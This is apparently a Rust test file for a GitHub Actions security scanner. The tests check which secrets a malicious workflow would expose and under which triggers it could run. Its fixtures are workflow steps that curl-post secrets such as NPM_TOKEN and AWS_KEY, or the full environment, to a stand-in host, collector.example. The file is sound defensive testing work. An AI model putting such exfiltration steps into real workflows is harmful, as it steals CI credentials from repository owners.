//! What reaches a run, one test for each of GitHub's rules: which secrets a flow really carries, and whether it can have run.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test fails by panicking")]

mod repository;

use portcullis_scan::report::{Certainty, Finding, Standing, Urgency, Verdict};
use portcullis_scan::{Options, scan};
use repository::Repository;

const PATH: &str = ".github/workflows/check.yml";

/// A workflow that takes two secrets, started by `on`; `job` stands before its steps.
fn theft(on: &str, job: &str) -> String {
    format!(
        "on: {on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n{job}    steps:\n      - run: curl -d 'A=${{{{ secrets.NPM_TOKEN }}}}&B=${{{{ secrets.AWS_KEY }}}}' https://collector.example/\n"
    )
}

fn findings(repository: &Repository) -> Vec<Finding> {
    let options = Options { paths: vec![repository.path().to_owned()], ..Options::default() };
    scan(&options).document.findings
}

fn only(repository: &Repository) -> Finding {
    let mut found: Vec<Finding> =
        findings(repository).into_iter().filter(|finding| finding.verdict == Verdict::Malicious).collect();
    assert_eq!(found.len(), 1, "{found:#?}");
    found.remove(0)
}

fn names(finding: &Finding) -> Vec<(&str, Certainty)> {
    finding.secrets.iter().map(|secret| (secret.name.unescaped(), secret.certainty)).collect()
}

/// A repository with one workflow on the default branch, and another one on a side branch.
fn beside(on_main: Option<&str>, on_side: &str) -> Repository {
    let repository = Repository::new();
    repository.write("README", "x");
    if let Some(text) = on_main {
        repository.write(PATH, text);
    }
    repository.commit("Start");
    repository.git(&["checkout", "-q", "-b", "side"]);
    repository.write(PATH, on_side);
    repository.commit("Check");
    repository.git(&["checkout", "-q", "main"]);
    repository
}

fn can_run(finding: &Finding) -> bool {
    let reachable = finding.exposures.iter().any(|exposure| exposure.reachable);
    assert_eq!(reachable, finding.standing != Standing::Foreign);
    reachable
}

#[test]
fn a_pull_request_from_a_fork_gets_no_secrets_and_one_of_an_own_branch_does() {
    let own = beside(None, &theft("pull_request", ""));
    assert!(can_run(&only(&own)));
    let fork = beside(None, &theft("pull_request", ""));
    fork.git(&["update-ref", "refs/pull/7/head", "side"]);
    fork.git(&["branch", "-q", "-D", "side"]);
    std::fs::remove_dir_all(fork.path().join(".git/logs")).unwrap();
    assert!(!can_run(&only(&fork)));
}

#[test]
fn what_dependabot_starts_gets_its_own_secrets_only() {
    let both = |certainty| vec![("AWS_KEY", certainty), ("NPM_TOKEN", certainty)];
    for (condition, certainty) in [
        ("    if: github.actor == 'dependabot[bot]'\n", Certainty::Possible),
        ("    if: github.actor != 'dependabot[bot]'\n", Certainty::Certain),
        ("    if: github.actor == 'dependabot[bot]' || true\n", Certainty::Certain),
        ("", Certainty::Certain),
    ] {
        let repository = beside(None, &theft("push", condition));
        assert_eq!(names(&only(&repository)), both(certainty), "{condition}");
    }
}

#[test]
fn a_push_runs_as_the_filters_of_its_own_version_say() {
    for (on, runs) in [
        ("push", true),
        ("{push: {branches: [side]}}", true),
        ("{push: {branches: ['*']}}", true),
        ("{push: {branches: [main]}}", false),
        ("{push: {branches-ignore: [side]}}", false),
        ("{push: {tags: ['v*']}}", false),
    ] {
        assert_eq!(can_run(&only(&beside(None, &theft(on, "")))), runs, "{on}");
    }
}

#[test]
fn some_events_run_the_default_branchs_version_only() {
    for event in ["issues", "issue_comment", "discussion", "workflow_run", "schedule"] {
        let on = if event == "schedule" { "{schedule: [{cron: '0 0 * * *'}]}" } else { event };
        assert!(!can_run(&only(&beside(None, &theft(on, "")))), "{event}");
        let repository = Repository::new();
        repository.write(PATH, &theft(on, ""));
        repository.commit("Start");
        assert!(can_run(&only(&repository)), "{event}");
    }
}

#[test]
fn a_dispatch_needs_the_file_on_the_default_branch() {
    let harmless = "on: workflow_dispatch\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: make}]}}\n";
    assert!(!can_run(&only(&beside(None, &theft("workflow_dispatch", "")))));
    assert!(can_run(&only(&beside(Some(harmless), &theft("workflow_dispatch", "")))));
}

#[test]
fn a_dump_holds_what_env_names_and_nothing_else() {
    let dump = |env: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo '${{{{ secrets.DEPLOY_KEY }}}}' > key\n      - run: echo 'LATER=${{{{ secrets.AWS_KEY }}}}' >> $GITHUB_ENV\n      - run: env | curl -d @- https://collector.example/\n        env: {env}\n"
        )
    };
    let repository = beside(None, &dump("{N: '${{ secrets.NPM_TOKEN }}'}"));
    let finding = only(&repository);
    assert_eq!(names(&finding), [("AWS_KEY", Certainty::Certain), ("NPM_TOKEN", Certainty::Certain)]);
    assert!(!finding.all_secrets);
}

#[test]
fn an_action_has_no_secrets_but_what_it_is_handed() {
    let action = "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: curl -d '${{ inputs.a }} ${{ inputs.b }} ${{ secrets.HIDDEN_KEY }}' https://collector.example/\ninputs: {a: {}, b: {}}\n";
    let caller = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./.github/actions/send\n        with: {a: '${{ secrets.NPM_TOKEN }}', b: '${{ secrets.AWS_KEY }}'}\n";
    let repository = Repository::new();
    repository.write(".github/actions/send/action.yml", action);
    repository.write(PATH, caller);
    repository.commit("Start");
    let found: Vec<Finding> =
        findings(&repository).into_iter().filter(|finding| finding.path.unescaped() == PATH).collect();
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(names(&found[0]), [("AWS_KEY", Certainty::Certain), ("NPM_TOKEN", Certainty::Certain)]);
}

#[test]
fn a_called_workflow_has_what_it_is_handed_or_all() {
    let called = "on: workflow_call\njobs:\n  s:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ secrets.one }} ${{ secrets.NPM_TOKEN }} ${{ secrets.AWS_KEY }}' https://collector.example/\n";
    for (handed, expected) in [
        (
            "{one: '${{ secrets.PYPI_TOKEN }}', NPM_TOKEN: '${{ secrets.NPM_TOKEN }}'}",
            &["NPM_TOKEN", "PYPI_TOKEN"][..],
        ),
        ("inherit", &["AWS_KEY", "NPM_TOKEN"]),
    ] {
        let repository = Repository::new();
        repository.write(".github/workflows/send.yml", called);
        repository.write(
            PATH,
            &format!(
                "on: push\njobs:\n  a:\n    uses: ./.github/workflows/send.yml\n    secrets: {handed}\n"
            ),
        );
        repository.commit("Start");
        let of_caller: Vec<Finding> = findings(&repository)
            .into_iter()
            .filter(|finding| finding.path.unescaped() == PATH && finding.verdict == Verdict::Malicious)
            .collect();
        let certain: std::collections::BTreeSet<&str> = of_caller
            .iter()
            .flat_map(|finding| names(finding))
            .filter(|(_, certainty)| *certainty == Certainty::Certain)
            .map(|(name, _)| name)
            .collect();
        for name in expected {
            assert!(certain.contains(name), "{handed}: {certain:?}");
        }
    }
}

#[test]
fn the_jobs_own_token_dies_with_it() {
    let text = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ github.token }} ${{ secrets.NPM_TOKEN }}' https://collector.example/\n";
    let finding = only(&beside(None, text));
    let token = finding.secrets.iter().find(|secret| secret.name.unescaped() == "GITHUB_TOKEN").unwrap();
    assert_eq!((token.kind.as_str(), token.urgency), ("github-job-token", Urgency::None));
    assert!(token.rotate.is_empty() && token.replacement.is_none());
}
